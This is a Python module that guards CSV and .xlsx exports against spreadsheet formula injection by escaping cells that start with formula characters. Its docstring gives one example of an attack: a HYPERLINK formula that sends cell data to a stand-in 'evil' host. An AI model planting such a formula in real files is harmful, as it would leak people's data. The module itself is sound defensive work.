"""Cells that are safe to open in a spreadsheet: the one rule for every CSV (and .xlsx) export.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets (CSV injection: `=HYPERLINK("http://evil/?"&A1, "click")` sends a program officer's data
away). Exports hold what people typed or texted — a message, a consent answer, a case property *name* —
so every cell, the header row included, goes through `safe_cell`, which puts a `'` in front of such a
value: the spreadsheet shows the text as it was written, and runs nothing.

`csv_lines` (streamed pages), `write_csv` (files, the CLI) and `xlsx_bytes` (an .xlsx workbook of one sheet)
apply it to the header and to every row, so an export that uses them cannot forget a cell;
`tests/core/test_spreadsheet.py` checks that every module writing CSV or a workbook in casemsg does.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator
from typing import IO, Any, Protocol

from openpyxl import Workbook

__all__ = [
    "FORMULA_START",
    "csv_lines",
    "read_cell",
    "safe_cell",
    "safe_row",
    "write_csv",
    "write_xlsx",
    "xlsx_cell",
    "xlsx_bytes",
]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    """The value as text a spreadsheet shows and never evaluates (None is the empty cell)."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def read_cell(value: object) -> str:
    """A cell of an exported file as it comes back (an import of a file casemsg wrote and a person filled
    in): `safe_cell`'s apostrophe in front of a formula start removed, so the text is what was exported."""
    text = "" if value is None else str(value)
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_START) else text


def safe_row(values: Iterable[object]) -> list[str]:
    return [safe_cell(v) for v in values]


class _Echo:
    """csv.writer writes into this and gets the line back, so rows stream instead of piling up."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[object], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The CSV lines of a header and rows, every cell made safe; for a StreamingHttpResponse."""
    writer = csv.writer(_Echo())
    yield writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def write_csv(out: _Writable, header: Iterable[object], rows: Iterable[Iterable[object]]) -> None:
    """Write a header and rows as CSV to a text file, every cell made safe."""
    for line in csv_lines(header, rows):
        out.write(line)


def xlsx_bytes(header: Iterable[object], rows: Iterable[Iterable[object]], title: str = "Sheet1") -> bytes:
    """An .xlsx workbook of one sheet holding a header and rows, every cell made safe and written as text
    (openpyxl's write-only mode: rows are not kept in memory while it is built)."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=title[:31] or "Sheet1")
    sheet.append(safe_row(header))
    for row in rows:
        sheet.append(safe_row(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# What an .xlsx cell cannot hold (control characters: openpyxl refuses them), and the longest text it takes.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
XLSX_CELL_MAX = 32_767


def xlsx_cell(value: object) -> object:
    """A cell of an .xlsx sheet: a number stays a number; text is made safe (`safe_cell`: a text starting with
    `=` would be stored as a formula), without the control characters a workbook cannot hold, and cut to the
    longest text a cell takes."""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    return _XLSX_ILLEGAL.sub("", safe_cell(value))[:XLSX_CELL_MAX]


def write_xlsx(
    out: IO[bytes], header: Iterable[object], rows: Iterable[Iterable[object]], title: str = "Sheet1"
) -> None:
    """Write a header and rows as one sheet of an .xlsx workbook to a binary file (a temporary file: a download
    streams it afterwards), every cell through `xlsx_cell`. Rows are written as they come (openpyxl's
    write-only mode), so memory stays the same for a million rows."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=_XLSX_ILLEGAL.sub("", title)[:31] or "Sheet1")
    sheet.append([xlsx_cell(v) for v in header])
    for row in rows:
        sheet.append([xlsx_cell(v) for v in row])
    book.save(out)
